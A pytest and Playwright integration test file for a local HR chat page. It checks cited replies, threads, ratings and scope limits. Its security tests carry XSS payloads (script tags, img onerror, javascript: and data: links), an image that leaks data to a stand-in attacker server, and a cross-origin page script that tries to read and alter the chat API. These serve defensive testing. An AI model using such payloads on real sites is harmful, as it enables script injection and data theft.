"""The chat page in a real browser: Playwright driving the system Chromium against `reground ui` (the local LLM and a
real `langgraph dev` serving the page), on the demo HR corpus plus a document carrying script and an exfiltration
image. Nothing is downloaded: Chromium is Debian's (`make test` installs it as root), Playwright drives it through
its bundled driver.

Timings: `REGROUND_CHAT_PAGE_RESULTS=evals/results/chat_page.json` writes the measured first-progress and
final-reply times of the demo's three turns (measured by the page itself, from sending to the text being shown);
`REGROUND_CHAT_PAGE_SCREENSHOTS=docs/img` saves the README's screenshots. Neither is asserted on.
"""

from __future__ import annotations

import json
import os
import platform
import queue
import shutil
import signal
import statistics
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from reground.tools.adapters.local_server import free_port
from reground.tools.tuning.stores import INGEST
from servers import REPO, stop_pid

from reground.demo import DEMO_SCOPE, DEMO_TURNS, demo_corpus_path

pytestmark = pytest.mark.integration

CHROMIUM_HINT = (
    "Chromium not found: the chat page's browser tests need it (`apt-get install chromium`; `make test` installs it "
    "as root; REGROUND_CHROMIUM=/path/to/chromium for another)"
)
# Chromium on a closed network: no background connections (without these flags they are refused many at a time).
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
ESCALATION = "please open a ticket with the HR team"
POLICY = {
    "collections": {
        "demo-hr": {
            "scope": {"country": ["DE", "US"], "employment_type": ["full-time", "part-time"]},
            "default": dict(DEMO_SCOPE),
        },
        "page-safety": {"scope": {}},
    },
    "context": {"escalation": ESCALATION},
}
REPLY_TIMEOUT_MS = 120_000  # a turn on 2 shared cores, the first one loading the models
UI_START_TIMEOUT_S = 300.0
ASK_BACK_QUESTION = "How do I request it?"  # an opening question leaning on a pronoun: the graph asks back
HEDGE_QUESTION = "Does the company pay for my gym membership?"  # the closest sentences, said as such
WIFI_QUESTION = "What is the guest wifi network called?"


def _chromium() -> str:
    path = os.environ.get("REGROUND_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    if not path:
        pytest.fail(CHROMIUM_HINT, pytrace=False)
    try:
        import playwright  # noqa: F401
    except ImportError:
        pytest.fail("Playwright is not installed: pip install -e '.[dev]' (make test does)", pytrace=False)
    return path


class ExfilHost:
    """A stand-in for an attacker's server: records every request a document's image or script would make."""

    def __init__(self) -> None:
        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def unsafe_document(exfil: str) -> dict[str, Any]:
    """A page as an attacker would write it: script, an image leaking to their host, javascript: and data: links.
    Plain text, so its markup reaches the passages as written (a markdown page loses it at ingest)."""
    return {
        "doc_id": "guest-wifi",
        "title": "Guest wifi <b>and</b> visitors",
        "url": "javascript:window.__pwned='url'",
        "text": (
            "The guest wifi network is called Northwind-Guest <script>window.__pwned = 'script'"
            "</script> and its password changes every Monday. Visitors get the password from reception "
            f'<img src="{exfil}/pixel.png?leak=wifi" onerror="window.__pwned=\'img\'"> '
            f"![badge]({exfil}/badge.png?leak=md) on arrival, and find [the floor plan](javascript:window.__pwned="
            "'link') or [the map](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) at the desk."
        ),
    }


@dataclass
class UI:
    """`reground ui` running: its process, the page's server URL, its data and state dirs."""

    process: subprocess.Popen[str]
    url: str
    data_dir: Path
    state_dir: Path
    output: list[str]


@pytest.fixture(scope="module")
def exfil() -> Iterator[ExfilHost]:
    host = ExfilHost()
    yield host
    host.server.shutdown()


@pytest.fixture(scope="module")
def ui(tmp_path_factory: pytest.TempPathFactory, exfil: ExfilHost) -> Iterator[UI]:
    """`reground ui` on the demo corpus and the unsafe document, with a scope policy; stopped with Ctrl-C (SIGINT)."""
    _chromium()  # fail first, with the hint, on a machine without a browser
    from reground.tools.stores.ingest import ingest
    from reground.tools.stores.store import PassageStore

    root = tmp_path_factory.mktemp("chat-page")
    data, state = root / "data", root / "state"
    unsafe = root / "unsafe.jsonl"
    unsafe.write_text(json.dumps(unsafe_document(exfil.url)) + "\n", encoding="utf-8")
    for collection, path in (("demo-hr", demo_corpus_path()), ("page-safety", unsafe)):
        summary = ingest(
            [path],
            PassageStore.open(collection, data_dir=data, create=True),
            progress=False,
            max_tokens=INGEST.chunk_tokens,
        )
        assert not summary.errors, summary
    policy = root / "policy.json"
    policy.write_text(json.dumps(POLICY), encoding="utf-8")
    command = [sys.executable, "-m", "reground", "ui", "--port", str(free_port()), "--data-dir", str(data),
               "--policy", str(policy)]  # fmt: skip
    env = {**os.environ, "REGROUND_STATE_DIR": str(state), "PYTHONUNBUFFERED": "1"}
    process = subprocess.Popen(
        command, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True
    )
    lines: queue.Queue[str] = queue.Queue()
    output: list[str] = []
    threading.Thread(target=lambda: [lines.put(line) for line in process.stdout or []], daemon=True).start()
    url = ""
    deadline = time.monotonic() + UI_START_TIMEOUT_S
    while not url and time.monotonic() < deadline and process.poll() is None:
        try:
            line = lines.get(timeout=1.0)
        except queue.Empty:
            continue
        output.append(line)
        if line.startswith("chat page: "):
            url = line.removeprefix("chat page: ").strip().removesuffix("/chat")
    if not url:
        stop_pid(process.pid)
        pytest.fail(f"`reground ui` did not print the page's URL:\n{''.join(output)}", pytrace=False)
    running = UI(process=process, url=url, data_dir=data, state_dir=state, output=output)
    yield running
    process.send_signal(signal.SIGINT)
    try:
        code = process.wait(timeout=60)
    finally:
        if process.poll() is None:
            stop_pid(process.pid)
    assert code == 0, "".join(output)
    with pytest.raises(httpx.ConnectError):
        httpx.get(f"{url}/ok", timeout=5.0)
    assert not (state / "llm-server.json").exists(), "Ctrl-C stops the LLM server `reground ui` started"


@pytest.fixture(scope="module")
def browser(ui: UI) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=_chromium(), args=CHROMIUM_ARGS, headless=True)
        yield launched
        launched.close()


@dataclass
class Page:
    """One browser tab on the chat page, with every request it made and every script error it raised."""

    page: Any
    requests: list[str]
    errors: list[str]


@pytest.fixture
def tab(browser: Any, ui: UI) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1100, "height": 720})
    page = context.new_page()
    opened = Page(page=page, requests=[], errors=[])
    page.on("request", lambda request: opened.requests.append(request.url))
    page.on("pageerror", lambda error: opened.errors.append(str(error)))
    page.goto(f"{ui.url}/chat")
    page.wait_for_selector("body[data-ready='1']")
    yield opened
    context.close()
    assert not opened.errors, opened.errors


def ask(tab: Page, question: str) -> Any:
    """Send a question and wait for its reply; returns the reply's locator."""
    replies = tab.page.locator(".reply[data-final='1']")
    done = replies.count()
    tab.page.fill("#question", question)
    tab.page.click("#send")
    reply = replies.nth(done)
    reply.wait_for(timeout=REPLY_TIMEOUT_MS)
    return reply


def turns(ui: UI, thread_id: str) -> list[dict[str, Any]]:
    response = httpx.get(f"{ui.url}/chat/api/threads/{thread_id}/turns", timeout=60.0)
    response.raise_for_status()
    return list(response.json()["turns"])


def thread_of(tab: Page) -> str:
    return str(tab.page.evaluate("window.__reground.threadId"))


SCREENSHOT_COLOURS = 48  # a palette PNG: a third of the size, the text as sharp


def screenshot(tab: Page, name: str) -> None:
    """The README's screenshots, when REGROUND_CHAT_PAGE_SCREENSHOTS names a folder."""
    folder = os.environ.get("REGROUND_CHAT_PAGE_SCREENSHOTS")
    if folder:
        from PIL import Image

        Path(folder).mkdir(parents=True, exist_ok=True)
        path = Path(folder) / name
        tab.page.screenshot(path=str(path))
        image = Image.open(path).convert("RGB").quantize(colors=SCREENSHOT_COLOURS, method=Image.Quantize.MEDIANCUT)
        image.save(path, optimize=True)


def test_the_demo_turns_get_cited_replies_and_the_page_measures_them(tab: Page, ui: UI, tmp_path: Path) -> None:
    page = tab.page
    warmup = ask(tab, "What is the dress code?")  # the server's first turn loads the models: measured apart
    assert warmup.get_attribute("data-kind") in ("abstain", "hedge", "answer", "partial")
    page.click("#new-thread")
    replies = [ask(tab, question) for question in DEMO_TURNS]
    for reply in replies:
        assert reply.get_attribute("data-kind") == "answer", reply.inner_text()
        assert reply.locator(".scope-chip").inner_text() == "demo-hr · country DE · employment_type full-time"
        assert reply.locator(".sources li").count() >= 1
    found = turns(ui, thread_of(tab))
    assert [t["question"] for t in found] == list(DEMO_TURNS)
    cited = [[c["doc_id"] for c in t["result"]["citations"]] for t in found]
    assert all("annual-leave-de" in docs for docs in cited), cited
    assert "30" in found[0]["result"]["answer"] and "31 March" in found[2]["result"]["answer"]
    page.set_viewport_size({"width": 1280, "height": 760})
    replies[2].locator(".source-open").first.click()  # the follow-up answered from the dialogue, its passage open
    page.locator("#passage mark").wait_for()
    screenshot(tab, "chat-cited-reply.png")
    timings = page.evaluate("window.__reground.timings")
    _record_timings(timings, tmp_path)


def _record_timings(timings: list[dict[str, Any]], tmp_path: Path) -> None:
    """The page's own measurements: first progress shown and final reply shown, seconds after sending."""

    def seconds(t: dict[str, Any], key: str) -> float:
        return round((t[key] - t["sent"]) / 1000, 3)

    rows = [{"question": t["question"], "first_progress_s": seconds(t, "firstProgress"),
             "final_reply_s": seconds(t, "final")} for t in timings]  # fmt: skip
    cold, warm = rows[0], rows[1:]
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=REPO, capture_output=True, text=True)
    result = {
        "what": "the chat page in Chromium (Playwright) against `reground ui`: langgraph dev + the local LLM, the demo "
        "HR corpus, the product defaults (extract answers); times measured by the page (performance.now) from "
        "sending the question to the progress line / the reply being shown",
        "command": "REGROUND_CHAT_PAGE_RESULTS=evals/results/chat_page.json .venv/bin/python -m pytest -q "
        "tests/integration/test_chat_page.py -k demo_turns",
        "code": commit.stdout.strip(),
        "machine": {"cpus": os.cpu_count(), "platform": platform.platform(), "load_average": os.getloadavg()},
        "targets": {"first_progress_s": 1.0, "final_reply_s": 1.5},
        "first_turn_after_server_start": cold,
        "demo_turns": warm,
        "median_first_progress_s": statistics.median(r["first_progress_s"] for r in warm),
        "median_final_reply_s": statistics.median(r["final_reply_s"] for r in warm),
    }
    out = Path(os.environ.get("REGROUND_CHAT_PAGE_RESULTS") or tmp_path / "chat_page.json")
    out.write_text(json.dumps(result, indent=2) + "\n", encoding="utf-8")
    print(json.dumps(result, indent=2))
    assert all(0 < r["first_progress_s"] <= r["final_reply_s"] for r in rows), rows


def test_a_citation_opens_its_passage_with_the_quoted_sentences_highlighted(tab: Page, ui: UI) -> None:
    reply = ask(tab, DEMO_TURNS[1])
    citation = turns(ui, thread_of(tab))[-1]["result"]["citations"][0]
    button = reply.locator(".cite, .source-open").first
    button.click()
    panel = tab.page.locator("#passage")
    panel.wait_for()
    assert tab.page.locator("#passage-title").inner_text() == citation["title"]
    assert tab.page.locator("#passage mark").inner_text() == citation["quote"]
    assert citation["quote"] in tab.page.locator("#passage-text").inner_text()
    link = tab.page.locator("#passage-source a")
    assert link.get_attribute("href") == citation["url"] and link.get_attribute("rel") == "noopener noreferrer"
    tab.page.click("#passage-close")
    assert not panel.is_visible()


def test_an_ask_back_is_answered_by_its_option_button(tab: Page, ui: UI) -> None:
    reply = ask(tab, ASK_BACK_QUESTION)
    assert reply.get_attribute("data-kind") == "clarify", reply.inner_text()
    assert reply.locator(".kind-badge").inner_text().lower() == "question back"
    options = reply.locator("button.option")
    assert options.count() >= 2
    screenshot(tab, "chat-ask-back.png")
    asked = turns(ui, thread_of(tab))[-1]["result"]["options"]
    label = options.first.inner_text()
    assert label == asked[0]["label"]
    before = tab.page.locator(".reply[data-final='1']").count()
    options.first.click()
    answer = tab.page.locator(".reply[data-final='1']").nth(before)
    answer.wait_for(timeout=REPLY_TIMEOUT_MS)
    assert tab.page.locator(".user-message").last.inner_text() == label
    assert answer.get_attribute("data-kind") in ("answer", "partial"), answer.inner_text()
    cited = [c["doc_id"] for c in turns(ui, thread_of(tab))[-1]["result"]["citations"]]
    assert asked[0]["doc_id"] in cited, (asked[0], cited)


def test_a_hedge_is_marked_apart_from_an_answer(tab: Page) -> None:
    hedge = ask(tab, HEDGE_QUESTION)
    assert hedge.get_attribute("data-kind") == "hedge", (
        f"the demo's hedge question no longer hedges: {hedge.inner_text()}"
    )
    assert hedge.locator(".kind-badge").inner_text().lower() == "not exactly in the documents"
    assert "may not answer this exactly" in hedge.locator(".reply-body").inner_text()
    assert hedge.evaluate(COLOURS) != colours_of(tab, "reply kind-answer"), "a hedge must not look like an answer"
    screenshot(tab, "chat-hedge.png")


COLOURS = "e => [getComputedStyle(e).borderLeftColor, getComputedStyle(e).backgroundColor]"


def colours_of(tab: Page, classes: str) -> list[str]:
    """The colours the page draws an element of these classes with (a probe element, removed again)."""
    return list(
        tab.page.evaluate(
            "classes => { const e = document.createElement('article'); e.className = classes;"
            " document.getElementById('conversation').append(e); const s = getComputedStyle(e);"
            " const out = [s.borderLeftColor, s.backgroundColor]; e.remove(); return out; }",
            classes,
        )
    )


def test_threads_come_back_after_a_reload_and_can_be_renamed_and_deleted(tab: Page, ui: UI) -> None:
    page = tab.page
    ask(tab, DEMO_TURNS[0])
    thread_id = thread_of(tab)
    page.goto(f"{ui.url}/chat")  # a fresh load, without the thread in the address
    page.wait_for_selector("body[data-ready='1']")
    item = page.locator(f"#threads li[data-thread-id='{thread_id}']")
    assert item.locator(".thread-title").inner_text() == DEMO_TURNS[0]
    item.locator(".thread-title").click()
    page.locator(".reply[data-kind='answer'] .rate-up").wait_for()
    assert page.locator(".user-message").all_inner_texts() == [DEMO_TURNS[0]]
    item.locator(".rename").click()
    page.fill(".thread-title-input", "Leave in Germany")
    page.press(".thread-title-input", "Enter")
    page.locator(f"#threads li[data-thread-id='{thread_id}'] .thread-title", has_text="Leave in Germany").wait_for()
    page.reload()
    page.wait_for_selector("body[data-ready='1']")
    assert page.locator(".user-message").all_inner_texts() == [DEMO_TURNS[0]], "the address keeps the open thread"
    assert item.locator(".thread-title").inner_text() == "Leave in Germany"
    item.locator(".delete").click()
    item.locator(".delete").click()  # the second click confirms
    item.wait_for(state="detached")
    assert httpx.get(f"{ui.url}/threads/{thread_id}", timeout=30.0).status_code == 404
    page.reload()
    page.wait_for_selector("body[data-ready='1']")
    assert page.locator(f"#threads li[data-thread-id='{thread_id}']").count() == 0


def test_ratings_are_exported_as_cases_that_eval_answers_runs(tab: Page, ui: UI, tmp_path: Path) -> None:
    first, second = ask(tab, DEMO_TURNS[0]), ask(tab, DEMO_TURNS[1])
    first.locator(".feedback-note").fill("exactly what I needed")
    first.locator(".rate-up").click()
    first.locator(".feedback-status", has_text="saved: helpful").wait_for()
    second.locator(".rate-down").click()
    second.locator(".feedback-status", has_text="saved: not helpful").wait_for()
    tab.page.reload()
    tab.page.wait_for_selector("body[data-ready='1']")
    assert tab.page.locator(".feedback-status").all_inner_texts() == ["saved: helpful", "saved: not helpful"]
    assert tab.page.locator(".feedback-note").first.input_value() == "exactly what I needed"

    cases_file = tmp_path / "feedback.jsonl"
    env = {**os.environ, "REGROUND_STATE_DIR": str(ui.state_dir)}
    exported = subprocess.run(
        [sys.executable, "-m", "reground", "eval", "feedback", "export", "--data-dir", str(ui.data_dir), "--out",
         str(cases_file)],
        env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    from reground.evals.data.datasets import load_cases

    thread_id = thread_of(tab)
    cases = [c for c in load_cases(cases_file) if c.dial_id == thread_id]
    assert [(c.question, c.extra["rating"]) for c in cases] == [(DEMO_TURNS[0], "up"), (DEMO_TURNS[1], "down")]
    helpful, unhelpful = cases
    assert helpful.gold_answer and "30" in helpful.gold_answer and helpful.gold_doc_id == "annual-leave-de"
    assert helpful.extra["note"] == "exactly what I needed" and helpful.extra["metadata_filter"] == DEMO_SCOPE
    assert unhelpful.gold_answer is None and unhelpful.history[0]["text"] == DEMO_TURNS[0]

    run = tmp_path / "run"
    answered = subprocess.run(
        [sys.executable, "-m", "reground", "eval", "answers", "--docs", str(demo_corpus_path()), "--cases",
         str(cases_file), "--limit", "0", "--systems", "reground", "--out", str(run), "--data-dir",
         str(tmp_path / "eval-data"), "--set", f"metadata_filter={json.dumps(DEMO_SCOPE)}"],
        env=env, capture_output=True, text=True, timeout=900,
    )  # fmt: skip
    assert answered.returncode == 0, answered.stderr[-3000:]
    assert (run / "summary.json").is_file()


def test_a_document_with_script_and_an_exfiltration_image_renders_inert(tab: Page, ui: UI, exfil: ExfilHost) -> None:
    page = tab.page
    page.select_option("#collection", "page-safety")
    reply = ask(tab, WIFI_QUESTION)
    # the script and the image are blobs set apart at ingest: the reply is the sentence they were glued into
    assert reply.locator(".reply-body").inner_text().startswith("The guest wifi network is called Northwind-Guest")
    reply.locator(".source-open").first.click()
    page.locator("#passage mark").wait_for()
    passage = page.locator("#passage-text").inner_text()
    for shown in (f'<img src="{exfil.url}/pixel.png?leak=wifi"', f"![badge]({exfil.url}/badge.png?leak=md)",
                  "[the floor plan](javascript:window.__pwned='link')", "(data:text/html;base64,"):  # fmt: skip
        assert shown in passage, shown
    assert page.locator("#passage-title").inner_text() == "Guest wifi <b>and</b> visitors"
    assert page.locator("#passage-source").inner_text().endswith("javascript:window.__pwned='url'")
    page.wait_for_timeout(1000)  # time for any image or script request to go out
    assert page.evaluate("window.__pwned") is None, "a document's script ran"
    assert page.locator("img").count() == 0 and page.locator("script").count() == 1  # app.js only
    hrefs = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")
    assert not [h for h in hrefs if not h.startswith(("http:", "https:"))], hrefs
    assert exfil.hits == [], f"the page requested the attacker's host: {exfil.hits}"
    assert [u for u in tab.requests if not u.startswith(ui.url)] == [], "only the page's own server is contacted"


CODE_REPLY = {
    "answer": "Start it with:\n\n```bash\nreground ui --port 8080 <img src=x onerror=\"window.__pwned='code'\">\n```"
    "\n\nThen open `/chat` in a browser [1].",
    "kind": "answer",
    "passed": True,
    "groundedness": 1.0,
    "relevance": 1.0,
    "citations": [{"number": 1, "doc_id": "ops", "title": "Operations", "url": "", "chunk_id": "c1", "quote": "x"}],
    "passages": [{"chunk_id": "c1", "doc_id": "ops", "text": "x"}],
}


def test_a_fenced_block_in_a_reply_renders_as_code_and_stays_text(tab: Page) -> None:
    """The page's own renderer on a reply with a fenced code block (replies that carry one come from the graph's
    write mode): a code element with its language, inline code, the citation mark as a button, nothing run."""
    page = tab.page
    page.evaluate(
        "reply => { const node = document.createElement('article'); node.id = 'probe';"
        " document.getElementById('conversation').append(node);"
        " renderReply(node, reply, {collection: 'ops', metadata_filter: {}}, null, null); }",
        CODE_REPLY,
    )
    code = page.locator("#probe pre > code")
    assert code.inner_text() == "reground ui --port 8080 <img src=x onerror=\"window.__pwned='code'\">"
    assert code.get_attribute("data-language") == "bash"
    assert page.locator("#probe p code").inner_text() == "/chat"
    assert page.locator("#probe .cite").inner_text() == "[1]"
    assert page.locator("img").count() == 0 and page.evaluate("window.__pwned") is None


def test_the_page_cannot_widen_its_scope(tab: Page, ui: UI) -> None:
    page = tab.page
    page.evaluate(
        "() => { const s = document.querySelector(\"select[name='country']\");"
        " s.append(new Option('UK', 'UK')); s.value = 'UK'; }"
    )
    tab.page.fill("#question", DEMO_TURNS[0])
    tab.page.click("#send")
    failed = page.locator(".reply.failed")
    failed.wait_for(timeout=REPLY_TIMEOUT_MS)
    assert failed.inner_text() == "demo-hr: country must be one of DE, US; got 'UK'"
    assert page.locator("#error").inner_text() == failed.inner_text()
    thread_id = thread_of(tab)
    assert httpx.get(f"{ui.url}/threads/{thread_id}/runs", timeout=30.0).json() == [], "no run started"

    # The same server refuses every edited request, whoever sends it; a granted one runs in exactly its scope.
    question = {"messages": [{"role": "user", "content": "How many days of paid time off do I get?"}]}
    granted = {"collection": "demo-hr", "metadata_filter": {"country": "US", "employment_type": "full-time"}}
    run = {"assistant_id": "reground", "input": question, "stream_mode": ["values"], "context": granted}
    edited = [
        ("POST", f"/threads/{thread_id}/runs/stream", {**run, "context": {**granted, "metadata_filter": {}}}),
        ("POST", f"/threads/{thread_id}/runs/stream", {**run, "context": {**granted, "data_dir": "/"}}),
        ("POST", f"/threads/{thread_id}/runs/stream", {**run, "assistant_id": "ingest", "input": {"paths": ["/"]}}),
        ("POST", f"/threads/{thread_id}/runs/stream",
         {**run, "context": None, "config": {"configurable": {"collection": "demo-hr"}}}),
        ("POST", f"/threads/{thread_id}/runs/wait", run),
        ("POST", "/runs/wait", run),
        ("POST", "/assistants", {"graph_id": "reground", "context": {"collection": "demo-hr"}}),
        ("PUT", "/store/items", {"namespace": ["reground-feedback", thread_id], "key": "x", "value": {}}),
    ]  # fmt: skip
    for method, path, body in edited:
        response = httpx.request(method, f"{ui.url}{path}", json=body, timeout=30.0)
        assert response.status_code == 403, (path, body, response.text)
    assert httpx.get(f"{ui.url}/threads/{thread_id}/runs", timeout=30.0).json() == []
    response = httpx.post(f"{ui.url}/threads/{thread_id}/runs/stream", json=run, timeout=120.0)
    assert response.status_code == 200
    state = httpx.get(f"{ui.url}/threads/{thread_id}/state", timeout=30.0).json()
    countries = {p["metadata"].get("country") for p in state["values"]["result"]["passages"]}
    assert countries and countries <= {"US", "all"}, countries
    history = httpx.post(f"{ui.url}/threads/{thread_id}/history", json={"limit": 1}, timeout=30.0).json()
    assert history[0]["metadata"]["escalation"] == ESCALATION, "the policy's fixed context reached the run"


ATTACK_PAGE = """<!doctype html><meta charset="utf-8"><title>a page on another origin</title><script>
const api = %(api)s, thread = %(thread)s;
const text = {"content-type": "text/plain"};
const tries = [
  ["search", "/threads/search", {method: "POST", headers: text, body: JSON.stringify({limit: 100})}],
  ["search-json", "/threads/search", {method: "POST", headers: {"content-type": "application/json"}, body: "{}"}],
  ["state", `/threads/${thread}/state`, {}],
  ["turns", `/chat/api/threads/${thread}/turns`, {}],
  ["config", "/chat/api/config", {}],
  ["rename", `/threads/${thread}`, {method: "PATCH", headers: {"content-type": "application/json"},
   body: JSON.stringify({metadata: {title: "renamed by another site"}})}],
  ["delete", `/threads/${thread}`, {method: "DELETE"}],
  ["plant", "/threads", {method: "POST", mode: "no-cors", headers: text,
   body: JSON.stringify({metadata: {app: "reground-chat", title: "planted"}})}],
  ["ask", `/threads/${thread}/runs/stream`, {method: "POST", mode: "no-cors", headers: text,
   body: JSON.stringify({assistant_id: "reground", input: {messages: [{role: "user", content: "Who earns most?"}]},
                         context: {collection: "demo-hr",
                                   metadata_filter: {country: "DE", employment_type: "full-time"}}})}],
];
window.__results = null;
Promise.all(tries.map(([name, path, init]) => fetch(api + path, init).then(
  async (r) => ({name, read: r.type !== "opaque", status: r.status, body: r.type === "opaque" ? "" : await r.text()}),
  (e) => ({name, read: false, error: String(e)})))).then((results) => { window.__results = results; });
</script>"""


class AttackPage:
    """A page on another local origin (another port) whose script tries to read and drive the chat page's API."""

    def __init__(self, api: str, thread_id: str) -> None:
        page = (ATTACK_PAGE % {"api": json.dumps(api), "thread": json.dumps(thread_id)}).encode()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def test_a_page_on_another_origin_reads_nothing_and_changes_nothing(browser: Any, ui: UI) -> None:
    created = httpx.post(f"{ui.url}/threads", json={"metadata": {"app": "reground-chat", "title": "salary talk"}})
    thread_id = created.json()["thread_id"]
    attacker = AttackPage(ui.url, thread_id)
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(attacker.url)
        page.wait_for_function("window.__results !== null", timeout=60_000)
        results = page.evaluate("window.__results")
    finally:
        context.close()
        attacker.server.shutdown()
    assert len(results) == 9
    leaked = [r for r in results if r.get("read") or "salary talk" in r.get("body", "")]
    assert leaked == [], leaked
    thread = httpx.get(f"{ui.url}/threads/{thread_id}", timeout=30.0).json()
    assert thread["metadata"]["title"] == "salary talk", "renamed or deleted by another origin"
    assert httpx.get(f"{ui.url}/threads/{thread_id}/runs", timeout=30.0).json() == [], "no turn was asked"
    titles = [t["metadata"].get("title") for t in httpx.post(f"{ui.url}/threads/search", json={"limit": 200}).json()]
    assert "planted" not in titles


def test_a_footnote_mark_in_a_document_is_text_and_a_userinfo_url_shows_its_real_host(tab: Page) -> None:
    """The page's renderer on a reply that copies a document's own "[2]" and a source whose URL hides its host."""
    page = tab.page
    reply = {
        "answer": "Leave requests go through the portal [2] within 5 days. Ask HR for details [1].",
        "kind": "answer",
        "passed": True,
        "citations": [
            {"number": 1, "doc_id": "leave", "title": "Leave", "url": "https://hr.northwind.example@northwind-hr.example/x",
             "chunk_id": "c1", "quote": "Leave requests go through the portal [2] within 5 days."},
            {"number": 2, "doc_id": "other", "title": "Other page", "url": "", "chunk_id": "c2", "quote": "y"},
        ],
        "passages": [{"chunk_id": "c1", "doc_id": "leave", "text": "Leave requests go through the portal [2] within "
                      "5 days. Footnote [2]: the portal is at /leave."},
                     {"chunk_id": "c2", "doc_id": "other", "text": "y"}],
    }  # fmt: skip
    page.evaluate(
        "reply => { const node = document.createElement('article'); node.id = 'probe2';"
        " document.getElementById('conversation').append(node);"
        " renderReply(node, reply, {collection: 'demo-hr', metadata_filter: {}}, null, null); }",
        reply,
    )
    assert page.locator("#probe2 .reply-body .cite").all_inner_texts() == ["[1]"], "the document's [2] is text"
    assert "the portal [2] within" in page.locator("#probe2 .reply-body").inner_text()
    page.locator("#probe2 .cite").click()
    source = page.locator("#passage-source")
    assert source.locator("a").count() == 0, "a URL hiding its host behind a user part is not linked"
    assert "its host is northwind-hr.example" in source.inner_text()


def test_errors_are_one_line_a_person_understands(tab: Page, ui: UI) -> None:
    """Runs last: it stops the LLM server (`reground ui` then has nothing of its own left to stop)."""
    page = tab.page
    page.evaluate("() => { const s = document.getElementById('collection'); s.append(new Option('x', 'no-such')); "
                  "s.value = 'no-such'; s.dispatchEvent(new Event('change')); }")  # fmt: skip
    page.fill("#question", DEMO_TURNS[0])
    page.click("#send")
    page.locator(".reply.failed").wait_for(timeout=REPLY_TIMEOUT_MS)
    assert (
        page.locator("#error").inner_text()
        == "collection 'no-such' is not open to this page (open: demo-hr, page-safety)"
    )
    page.select_option("#collection", "demo-hr")

    record = json.loads((ui.state_dir / "llm-server.json").read_text(encoding="utf-8"))
    stop_pid(int(record["pid"]))
    # the extract default answers without the model (a follow-up it would rewrite is searched with the conversation)
    reply = ask(tab, DEMO_TURNS[0])
    assert "30 working days" in reply.locator(".reply-body").inner_text()
    assert page.locator(".reply.failed").count() == 1
    # a question longer than the turn's budget is cut, and the reply says so in one line
    reply = ask(tab, "How many days of annual leave do I get per year? " + "Please tell me. " * 600)
    notes = reply.locator(".notice").all_inner_texts()
    assert any(n.startswith("Note: your question was cut from") for n in notes), notes
    assert all("\n" not in n and "Traceback" not in n for n in notes), notes
